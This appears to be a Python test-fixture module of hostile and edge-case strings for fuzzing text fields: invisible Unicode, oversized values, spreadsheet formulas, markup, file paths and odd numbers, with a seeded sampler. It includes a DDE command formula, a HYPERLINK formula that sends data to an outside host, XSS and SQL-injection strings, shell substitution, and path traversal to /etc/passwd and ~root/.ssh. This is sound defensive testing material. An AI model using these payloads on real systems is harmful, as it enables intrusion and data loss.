"""What may stand in a field of text when somebody means harm, or a program before ours meant well."""

import random
from collections.abc import Iterator

_UNSEEN = {
    "nothing": "",
    "blanks": " \t\u00a0\u2003\u3000\u2028\u2029\r\n",
    "fillers": "\u3164\u115f\u2800\u200b\ufeff",
    "NUL": "陈\0志远",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "half a sign": "陈\ud842",
    "the other half": "\udfb7志远",
    "no sign at all": "\ufffe\uffff\U0010ffff",
    "backwards": "陈\u202e远志\u202c\u2066\u2069\u200f",
    "joiners": "👨‍👩‍👧‍👦🏳️‍🌈🇨🇳",
    "tower": "Z" + "\u0301\u0489\u20e3" * 60,
    "private": "\ue000\uf8ff\U000f0000",
}

_LARGE = {
    "long": "长" * 100_000,
    "long word": "x" * 5_000,
    "lines": "行\n" * 3_000,
    "digits": "9" * 400,
    "rare signs": "𠮷𪚥𫝀𬌗𮧵𰻞𲎯" * 20,
}

_FORMULAS = {
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://example.com/?"&A1,"点")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "line first": "\n=1+1",
    "blank first": " =1+1",
    "wide": "＝1+1",
    "wide plus": "＋1",
    "wide minus": "－1",
    "wide at": "＠SUM(1)",
    "unseen first": "\u200b=1+1",
    "quoted": '";=1+1;"',
    "apostrophe": "'=1+1",
    "coded": "_x003D_1+1_x000D_",
}

_MARKUP = {
    "braces": "{}{0}{name}{name.__class__}{field!r:>99}",
    "open brace": "{",
    "percent": "%s%d%n%(name)s%",
    "dollar": "${HOME}$(id)`id`",
    "bold": "<b>粗</b><script>alert(1)</script>",
    "picture": '<img src="file:///etc/passwd"><a href="http://example.com">点</a>',
    "paragraph": '<para align="right"><font size="99">大</font></para><br/>',
    "unclosed": "<para><b>&amp;&nbsp;&#0;&bogus;]]>",
    "JSON": '{"a": [1, null, "\\u0000"]}\\',
    "SQL": "'; DROP TABLE unit; --",
    "wildcards": "%_*?[a-z]^\\",
    "ampersand": "&A&B 1&&2",
    "quotes": "\"'`“”‘’「」",
    "query": '"NEAR" OR * AND (NOT ^a:b)',
}

_PATHS = {
    "up": "../../../../etc/passwd",
    "up in Windows": "..\\..\\windows\\system32",
    "device": "CON",
    "device with ending": "NUL.txt",
    "slash": "a/b:c*d?e|f<g>h",
    "dots": "..",
    "home": "~root/.ssh",
    "address": "file:///etc/passwd",
    "option": "--data=/",
}

_NUMBERS = {
    "infinite": "1e999",
    "no number": "NaN",
    "huge": "99999999999999999999",
    "negative zero": "-0",
    "wide digits": "１２３．４５",
    "Arabic digits": "١٢٣",
    "superscript": "²³½Ⅳ",
    "day out of range": "2026-02-30",
    "day before all": "0000-00-00",
    "day after all": "9999-12-31",
    "day of the future": "99999-01-01",
    "hour": "25:61",
    "id of ones": "111111111111111111",
    "id": "110101199003077",
    "id with letters": "11010119900307451X",
    "wide id": "１１０１０１１９９００３０７４５１５",
    "filler phone": "18999999999",
    "phone": "+86 (138) 0000-2047 转 8001",
    "amount": "￥１，２３４.5６元",
    "underscores": "1_000",
}

HOSTILE: dict[str, str] = _UNSEEN | _LARGE | _FORMULAS | _MARKUP | _PATHS | _NUMBERS
"""Each by what it is."""


def some(count: int, seed: int) -> Iterator[tuple[str, str]]:
    """So many of them, others for each seed."""
    yield from random.Random(seed).sample(sorted(HOSTILE.items()), min(count, len(HOSTILE)))
